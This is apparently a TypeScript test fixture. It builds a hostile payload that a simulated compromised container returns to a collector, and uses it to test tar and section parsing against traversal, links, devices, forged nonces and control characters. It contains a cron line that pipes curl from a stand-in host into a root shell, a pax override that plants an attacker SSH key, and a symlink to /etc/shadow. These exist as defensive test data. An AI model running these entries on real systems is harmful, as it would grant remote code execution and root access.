import { paxRecords, tarArchive, tarEntry } from '../tar-writer.js';

/**
 * What the hostile test pod answers to the collector, whatever it asks: forged sections carrying
 * the collector's own nonce (@NONCE@ is replaced by gatehouse-exec), a tar stream with traversal,
 * absolute paths, links, devices, GNU long names and pax overrides, control characters, and then
 * zeros without end. It stands in for a fully compromised container.
 */
export function hostilePayload(): Buffer {
  const longName = `${'deep/'.repeat(30)}../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../tmp/gatehouse-longname-escape`;
  const tar = Buffer.concat([
    tarEntry({ name: '../../../../../tmp/gatehouse-pwned', data: 'escaped?\n' }),
    tarEntry({ name: '/etc/cron.d/backdoor', data: '* * * * * root curl http://203.0.113.9/x | sh\n' }),
    tarEntry({ name: 'etc/shadow-link', type: '2', linkName: '/etc/shadow' }),
    tarEntry({ name: 'dev/evil', type: '3' }),
    tarEntry({ name: 'tmp/fifo', type: '6' }),
    tarEntry({ name: '././@LongLink', type: 'L', data: `${longName}\0` }),
    tarEntry({ name: 'placeholder', data: 'long name payload\n' }),
    tarEntry({ name: 'PaxHeaders/x', type: 'x', data: paxRecords({ path: '/root/.ssh/authorized_keys' }) }),
    tarEntry({ name: 'innocent', data: 'ssh-ed25519 AAAA attacker\n' }),
    tarArchive([{ name: 'tmp/\u001b]0;owned\u0007\nname', data: 'control characters\n' }]),
  ]);
  return Buffer.concat([
    Buffer.from('\n##GH1 @NONCE@ hex meta.tools\nthis is not od output\n'),
    Buffer.from('\n##GH1 @NONCE@ tar files.etc\n'),
    tar,
    Buffer.from('\n##GH1 @NONCE@ hex ../../escape\n41\n'),
    Buffer.from('\n##GH1 0000 tar files.forged\n'),
    Buffer.from('\n##GH1 @NONCE@ raw live.processes\n@pid 1\n@cmdline \u001b[2J\u001b]0;owned\u0007\n'),
  ]);
}
